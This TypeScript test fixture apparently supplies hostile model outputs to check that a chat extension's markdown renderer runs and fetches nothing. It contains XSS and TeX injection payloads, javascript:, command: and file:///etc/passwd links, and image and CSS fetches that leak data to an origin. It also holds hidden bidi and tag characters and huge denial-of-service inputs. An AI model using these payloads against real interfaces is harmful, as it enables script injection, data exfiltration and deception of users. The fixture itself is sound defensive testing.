/**
 * Hostile answers of a model. Anything that runs calls `trap`, anything that is fetched is at `origin`, and each sample
 * names the text that a reader must still see.
 */

import { hiddenSamples } from "./hiddenSamples.ts";

export interface HostileSample {
  readonly text: string;
  /** Text that must be shown, as rendered. */
  readonly shows: string;
}

export interface HostileGroup {
  readonly name: string;
  readonly samples: readonly HostileSample[];
}

/** Raw HTML, which must be shown as text. */
const asItIs = (...texts: readonly string[]): readonly HostileSample[] => texts.map((text) => ({ text, shows: text }));

/** A link with a bad address, whose text must remain. */
const link = (address: string): HostileSample => ({
  text: `[click ${address.length}](${address})`,
  shows: `click ${address.length}`,
});

/** Formulas with commands that other TeX parsers execute, which must be shown as source. */
const formulas = (origin: string): HostileGroup => ({
  name: "formulas",
  samples: [
    { text: `so $\\href{javascript:trap('href')}{x}$ click`, shows: "\\href" },
    { text: `so $\\includegraphics{${origin}/tex.png}$`, shows: "\\includegraphics" },
    { text: `so $\\htmlData{onclick=trap('data')}{y}$`, shows: "\\htmlData" },
    { text: "so $\\text{<img src=x onerror=trap('text')>}$", shows: "onerror=trap(" },
    { text: "$$\n\\style{background:url(" + origin + "/tex)}{z}\n$$", shows: "\\style" },
    { text: "so $\\def\\a{\\a\\a}\\a$ ends", shows: "ends" },
    { text: `so $${"{".repeat(200)}x${"}".repeat(200)}$ is deep`, shows: "is deep" },
    { text: "so $a\u202eb$ turned", shows: "turned" },
  ],
});

/** All kinds of samples. Nothing may be requested from `origin`, such as "http://127.0.0.1:1234". */
export function hostileGroups(origin: string): readonly HostileGroup[] {
  return [
    formulas(origin),
    {
      name: "scripts and event handlers",
      samples: [
        ...asItIs(
          "<script>trap('script')</script>",
          "text <script>trap('inline script')</script> text",
          '<script src="' + origin + '/script.js"></script>',
          "<img src=x onerror=trap('onerror')>",
          "<iframe srcdoc=\"<script>parent.trap('srcdoc')</script>\"></iframe>",
          "<details open ontoggle=trap('toggle')>",
          "<body onload=trap('body')>",
          "<input autofocus onfocus=trap('focus')>",
          "<video><source onerror=trap('video')></video>",
          "<dialog open onclick=alert('dialog')>",
          "<object data=" + origin + "/object></object><embed src=" + origin + "/embed>",
          "<form action=" + origin + "/form><button>Send</button></form>",
          '"><script>trap("attribute")</script>',
          "<?php trap('processing') ?>",
          "<!-- --><script>trap('comment')</script> -->",
          "<![CDATA[<script>trap('cdata')</script>]]>",
        ),
        { text: "`</code><script>trap('code')</script>`", shows: "</code><script>trap('code')</script>" },
        {
          text: "```html\n</code></pre><script>trap('fence')</script>\n```",
          shows: "</code></pre><script>trap('fence')</script>",
        },
        { text: '```"><script>trap("language")</script>\nafter it\n```', shows: "after it" },
        {
          text: "| <script>trap('cell')</script> |\n|---|\n| <img src=x onerror=trap('cell2')> |",
          shows: "<script>trap('cell')</script>",
        },
        { text: "&lt;script&gt;trap('entities')&lt;/script&gt;", shows: "<script>trap('entities')</script>" },
        {
          text: "__proto__ constructor toString\n\n[__proto__]: https://a.example/\n[constructor]: https://b.example/\n\n[constructor] [toString]",
          shows: "[toString]",
        },
      ],
    },
    {
      name: "SVG and MathML",
      samples: asItIs(
        '<svg onload="trap(\'svg\')"><animate onbegin=trap("animate") attributeName=x dur=1s></svg>',
        "<svg><script>trap('svg script')</script></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>parent.trap('foreign')</script>\"></iframe></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='trap(1)'/></svg>#x\"/></svg>",
        '<svg><image href="' +
          origin +
          '/image.svg"/><a xlink:href="javascript:trap(\'xlink\')"><text>x</text></a></svg>',
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=trap('mathml')&gt;\">",
        '<math href="javascript:trap(\'math\')">click</math><maction actiontype="statusline#' +
          origin +
          '/math">x</maction>',
      ),
    },
    {
      name: "unsafe links",
      samples: [
        { text: "<a href=\"javascript:trap('a')\">click</a>", shows: "<a href=\"javascript:trap('a')\">" },
        link("javascript:trap('link')"),
        link("JaVaScRiPt:trap('upper case')"),
        link("java&#10;script:trap('entity')"),
        link("&#106;avascript:trap('entity as first')"),
        link("data:text/html;base64,PHNjcmlwdD50cmFwKCdkYXRhJyk8L3NjcmlwdD4="),
        link("data:text/html,<script>trap('plain')</script>"),
        link("vbscript:trap('vb')"),
        link("blob:null/0000"),
        link("command:workbench.action.terminal.new"),
        link("command:forge.newConversation"),
        link("command:workbench.action.openSettings?%5B%22trap%22%5D"),
        link("vscode://forge-chat.forge/x"),
        link("vscode-remote://localhost/etc/passwd"),
        link("file:///etc/passwd"),
        link("//127.0.0.1/no-scheme"),
        link("https://user:pass@evil.example/"),
        link("\\\\evil.example\\share"),
        { text: "<javascript:trap('autolink')>", shows: "javascript:trap('autolink')" },
        { text: "[a]: javascript:trap('reference')\n\n[click reference][a]", shows: "click reference" },
        { text: "[![badge](javascript:trap('nested'))](command:workbench.action.quit)", shows: "badge" },
      ],
    },
    {
      name: "images and other fetched resources",
      samples: [
        { text: "![remote picture](" + origin + "/leak.png?secret)", shows: "remote picture" },
        { text: "![by script](javascript:trap('image'))", shows: "by script" },
        { text: "![as data](data:image/svg+xml,<svg onload=trap('datasvg')>)", shows: "as data" },
        { text: "![local file](/local.png)", shows: "local file" },
        {
          text: "[![picture in a link](" + origin + "/in-link.png)](" + origin + "/target)",
          shows: "picture in a link",
        },
        { text: "![by reference][r]\n\n[r]: " + origin + "/reference.png", shows: "by reference" },
        ...asItIs(
          '<img src="' + origin + '/img.png" srcset="' + origin + '/srcset.png 2x">',
          '<link rel=stylesheet href="' +
            origin +
            '/evil.css"><link rel=prefetch href=' +
            origin +
            "/prefetch><link rel=preconnect href=" +
            origin +
            ">",
          "<link rel=dns-prefetch href=//leak.evil.example>",
          "<style>@import '" + origin + "/import.css'; body { background: url(" + origin + "/background) }</style>",
          "<style>@font-face { font-family: a; src: url(" + origin + "/font) } * { font-family: a }</style>",
          '<style>textarea[value^="a"] { background: url(' + origin + "/a) }</style>",
          '<div style="background:url(' + origin + '/style)">x</div>',
          '<meta http-equiv="refresh" content="0;url=' + origin + '/refresh">',
          '<base href="' + origin + '/base/">',
          "<audio src=" + origin + "/audio autoplay></audio><track src=" + origin + "/track>",
        ),
      ],
    },
    {
      name: "hiding characters",
      samples: [
        { text: "\u202eevil\u202c \u2066x\u2069 zero\u200bwidth \u{e0041}\u{e0042}", shows: "U+202Eevil" },
        { text: "before the tags \u{e0069}\u{e0067}\u{e006e} behind the tags", shows: "U+E0069" },
        { text: "[shown\u202egnp.exe](https://example.com/\u202egnp.exe)", shows: "U+202E" },
        { text: "`code with\u200b a hidden\u2060 one`", shows: "U+200B" },
        { text: "```\nreturn \u202e // admin \u2066\n```", shows: "return U+202E" },
        {
          text: "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 after ANSI",
          shows: "U+001B[31mred",
        },
        { text: "\u0000null\u0000 \uffff \ud800 lone half", shows: "lone half" },
        { text: `stacked ${"e" + "\u0301".repeat(2_000)} behind the stack`, shows: "behind the stack" },
        ...hiddenSamples.map(({ front, hidden, codes }) => ({
          text: `${front} ${hidden} in it`,
          shows: `${front} ${codes.join(" ")}`,
        })),
        { text: "soft\u00adhyphen, no\u00a0break, \ufeffmark", shows: "U+FEFF" },
      ],
    },
  ];
}

/** Texts that are too long or too deep to parse or draw. Each ends with the words of `shows`. */
export function hostileGiants(): readonly HostileSample[] {
  const giant = (name: string, text: string): HostileSample => ({ text: `${text} ${name}`, shows: name });
  const million = 1_000_000;
  const deep = 10_000;
  return [
    giant("end of the long line", "word and ".repeat(million / 9)),
    giant("end of the line without a space", "x".repeat(million)),
    { text: `\`\`\`js\n${"f(1);".repeat(million / 5)}\nend of the long code\n\`\`\`\n`, shows: "end of the long code" },
    {
      text: `\`\`\`js\n${"f(1);".repeat(90_000)}\nend of the code on one line\n\`\`\`\n`,
      shows: "end of the code on one line",
    },
    { text: `\`\`\`js\n${"f(1);\n".repeat(70_000)}end of the code\n\`\`\`\n`, shows: "end of the code" },
    {
      text: `Here:\n\`\`\`js\n${"f(1);\n".repeat(250_000)}end of the code after words\n\`\`\`\n`,
      shows: "end of the code after words",
    },
    giant("end of the list with code", `- a\n  \`\`\`\n${"  f(1);\n".repeat(100_000)}  \`\`\`\n\n`),
    giant("end of the Hebrew code", `\`\`\`js\n${'"\u05d0", 1, "\u05d1"\n'.repeat(70_000)}\`\`\`\n\n`),
    giant("end of the hidden code", `\`\`\`js\n${"\u202e;\n".repeat(300_000)}\`\`\`\n\n`),
    // The grammars of these languages look ahead from each word or bracket.
    {
      text: `\`\`\`cs\n${"word ".repeat(9_500)}\nend of the words of code\n\`\`\`\n`,
      shows: "end of the words of code",
    },
    {
      text: `\`\`\`md\n${"[".repeat(49_000)}\nend of the brackets in code\n\`\`\`\n`,
      shows: "end of the brackets in code",
    },
    giant("end of the large table", `| a | b |\n|---|---|\n${"| 1 | 2 |\n".repeat(5_000)}\n\n`),
    giant("end of the long address", `[a](https://example.com/${"p/".repeat(million / 2)})`),
    giant("end of the long row", `| a |\n|---|\n| ${"cell ".repeat(million / 5)} |\n\n`),
    giant("end of the deep quotation", `${">".repeat(deep)} in it\n\n`),
    giant("end of the deep list", `${"- ".repeat(deep)}in it\n\n`),
    giant(
      "end of the indented list",
      `${Array.from({ length: 1_000 }, (_, depth) => `${"  ".repeat(depth)}- item`).join("\n")}\n\n`,
    ),
    giant("end of the quoted code", `${">```\n?\n".repeat(8_000)}\n\n`),
    giant("end of the ticks behind backslashes", `${"\\```\n'-".repeat(8_000)}\n\n`),
    giant("end of what is no fence", "```\u00e9\u200b".repeat(6 * deep)),
    giant("end of the line behind a fence", `\`\`\`\n\`\`\`\n${"x".repeat(million / 3)}`),
    giant("end of the brackets", "[".repeat(deep) + "]".repeat(deep)),
    giant("end of the image brackets", "![".repeat(deep) + "](x)".repeat(deep)),
    giant("end of the emphasis", "*a **b ".repeat(deep)),
    giant("end of the elements", "<div>".repeat(deep) + "</div>".repeat(deep)),
    giant("end of the ticks", Array.from({ length: 1_000 }, (_, length) => "`".repeat(length + 1)).join("a")),
    giant(
      "end of the references",
      Array.from({ length: deep }, (_, index) => `[r${index}]: https://example.com/${index}`).join("\n") + "\n\n",
    ),
    giant("end of the wide table", `|${"a|".repeat(2_000)}\n|${"-|".repeat(2_000)}\n|${"b|".repeat(2_000)}\n\n`),
    giant("end of the entities", "&lt;".repeat(deep) + "&#x26;".repeat(deep)),
    giant("end of the addresses", "https://a.example/( ".repeat(deep)),
    // Fast to parse, slow to draw.
    giant("end of the empty items", `${"\n- ".repeat(2 * deep)}\n\n`),
    giant("end of the numbers", `${"\n1. _".repeat(deep)}\n\n`),
    giant("end of the rules and code", `${" ***\n    ~~\n".repeat(deep / 2)}\n\n`),
    giant("end of the blocks of code", `${"\n\n    \u6f22\n\n\n)".repeat(deep)}\n\n`),
    giant("end of the small tables", "| a | b |\n|---|---|\n| **c** | `d` |\n\n".repeat(deep / 2)),
    giant("end of the short paragraphs", "a *b* `c`\n\n".repeat(2 * deep)),
    giant("end of the turns", `${"\u202e\n".repeat(2 * deep)}\n\n`),
    giant("end of the words from right to left", "\u0645(<!--word and [x] ".repeat(deep)),
    giant("end of the scripts", "a\u6f22\t\u0645'".repeat(deep)),
  ];
}
